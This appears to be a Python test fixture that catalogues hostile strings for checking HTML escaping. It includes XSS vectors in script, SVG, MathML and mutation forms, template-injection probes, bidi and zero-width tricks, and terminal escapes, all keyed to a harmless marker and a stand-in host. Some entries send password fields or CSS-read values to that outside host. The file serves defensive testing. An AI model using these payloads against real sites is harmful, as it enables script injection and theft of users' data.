"""What strangers write: every text that would act if a page took it for its own."""

from __future__ import annotations

from dataclasses import dataclass

CALL = "zqx()"
OUT = "http://zqx.example"


@dataclass(frozen=True)
class Text:
    """`acts`: the part that must not stand in any page as it is."""

    id: str
    what: str
    text: str
    acts: str


def _text(id: str, what: str, text: str, acts: str = "") -> Text:
    return Text(id, what, text, acts or text)


TEXTS = (
    _text("script", "a script", f"<script zqx>{CALL}</script>"),
    _text("script-elsewhere", "a script from elsewhere", f"<script src={OUT}/a.js></script>"),
    _text("script-ends", "ends the page's own script", f"</script><script zqx>{CALL}</script>", "</script><script zqx"),
    _text("title-ends", "ends the title and the text area", f"</title></textarea><img zqx src=x onerror={CALL}>"),
    _text("comment", "a comment that hides what follows", f"--><img zqx src=x onerror={CALL}><!--"),
    _text("cdata", "a CDATA section", f"<![CDATA[<img zqx src=x onerror={CALL}>]]>"),
    _text("img-onerror", "an image that fails", f"<img zqx src=x onerror={CALL}>"),
    _text("img-elsewhere", "an image from elsewhere, that tells who reads", f"<img zqx src={OUT}/p.png>"),
    _text("svg-onload", "SVG with a handler", f"<svg zqx onload={CALL}>"),
    _text("svg-script", "a script in SVG", f"<svg zqx><script>{CALL}</script></svg>"),
    _text("svg-animate", "SVG that writes a link later", f"<svg zqx><a><animate attributeName=href to=javascript:{CALL} />"),
    _text("svg-use", "SVG that brings other SVG", f'<svg zqx><use href="{OUT}/a.svg#x"></use></svg>'),
    _text("mathml", "MathML with a link", f'<math zqx href="javascript:{CALL}"><mi>x</mi></math>'),
    _text("mathml-mutation", "markup that changes when it is parsed twice",
          f"<math zqx><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={CALL}&gt;\">"),
    _text("meta-refresh", "leads away by itself", f'<meta zqx http-equiv="refresh" content="0;url={OUT}">'),
    _text("base", "turns every link elsewhere", f"<base zqx href={OUT}/>"),
    _text("link-style", "a stylesheet from elsewhere", f"<link zqx rel=stylesheet href={OUT}/a.css>"),
    _text("style", "a style that reads fields", f"<style zqx>input[value^=a]{{background:url({OUT}/a)}}</style>"),
    _text("style-attribute", "a style that covers the page", '<div zqx style="position:fixed;inset:0">'),
    _text("iframe", "a frame with a page of its own", f"<iframe zqx srcdoc='<script>{CALL}</script>'></iframe>"),
    _text("object", "an object", f"<object zqx data=javascript:{CALL}></object>"),
    _text("form-elsewhere", "a form that sends fields elsewhere", f"<form zqx action={OUT}><input zqx name=password>"),
    _text("button-elsewhere", "a button that turns our form", f"<button zqx formaction={OUT}>Accept</button>"),
    _text("link-javascript", "a link that is a script", f"<a zqx href='javascript:{CALL}'>x</a>"),
    _text("link-data", "a link that is a page", f"<a zqx href='data:text/html,<script>{CALL}</script>'>x</a>"),
    _text("dangling", "an attribute that swallows the page", f"<img zqx src='{OUT}/?"),
    _text("attribute-double", "leaves an attribute in double quotes", f'" zqx autofocus onfocus="{CALL}', '" zqx autofocus'),
    _text("attribute-single", "leaves an attribute in single quotes", f"' zqx autofocus onfocus='{CALL}", "' zqx autofocus"),
    _text("attribute-bare", "leaves an attribute without quotes", f"x zqx onmouseover={CALL} y", "<x zqx onmouseover"),
    _text("htmx", "attributes that htmx acts on", f'<div zqx hx-get="{OUT}" hx-trigger="load" hx-on:load="{CALL}">'),
    _text("custom", "an element of a made-up name", f"<zqx-x onpointerrawupdate={CALL}>"),
    _text("table-ends", "ends the table that it stands in", "</td></tr></table></main></body><b zqx>", "</main></body><b"),
    _text("entities", "markup that is spelled in entities", "&lt;img zqx src=x onerror=zqx()&gt;&#60;b zqx&#62;"),
    _text("template-jinja", "an expression of Jinja", "{{7*7}}{{zqx.__class__}}{% for x in [1] %}zqx49{% endfor %}", "49zqx49"),
    _text("template-others", "expressions of other templates", "${7*7}#{7*7}<%= 7*7 %>[[${zqx}]]", "<%= 7"),
    _text("format", "what Python's format would fill", "{zqx.__class__}{0}{n}%s%n%(zqx)s", "<class"),
    _text("bidi", "turns what is read around", "zqx\u202eexe.txt\u2066\u202d\u200f\u061c", "\u202e"),
    _text("bidi-mark", "a mark that turns its neighbours", "zqx\u2067a\u2069\u200e", "\u2067"),
    _text("zero-width", "words with nothing between them", "zqx\u200badmin\u2060\ufeff\u00ad", "\u200b"),
    _text("tags", "words in characters that nobody sees", "zqx" + "".join(chr(0xE0000 + ord(c)) for c in "evil"), "\U000e0065"),
    _text("ansi", "escapes that write a terminal's title", "zqx\x1b]0;zqx\x07\x1b[2J\x1b[31m\x9b31m", "\x1b"),
    _text("controls", "controls, NUL among them", "zqx\x00a\x01\x08\x7f\x85", "\x00"),
    _text("surrogate", "half of a character", "zqx\ud800a\udfff", "\ud800"),
    _text("noncharacters", "numbers that are no characters", "zqx\uffff\ufffe\ufff9\U000fffff", "\uffff"),
    _text("pile", "hundreds of marks over one letter", "zqx" + "a" + "\u0301\u0316" * 150, "\u0301" * 8),
    _text("lines", "line ends that only some see", "zqx\u2028a\u2029b\x0bc\rd", "\u2028"),
)  # fmt: skip

WHOLE = " | ".join(one.text for one in TEXTS)
"""All of them: a record with half a character is malformed, and the ledger says so."""
FLOOD = " | ".join(one.text for one in TEXTS if one.id != "surrogate")
"""All that are Unicode, for other fields that are long enough: those refuse half a character."""
SHORT = (
    f"'\"><img zqx src=x onerror={CALL}><svg/onload={CALL}><script zqx>{CALL}</script>{{{{7*7}}}}"
    "\u202e\u200b\x1b[31m=1+1"
)
"""Some of them, for fields that are not."""
PRINTABLE = f"'\"><img zqx src=x onerror={CALL}></title><script zqx>{CALL}</script>{{{{7*7}}}}=1+1"
"""For fields that refuse what cannot be seen."""
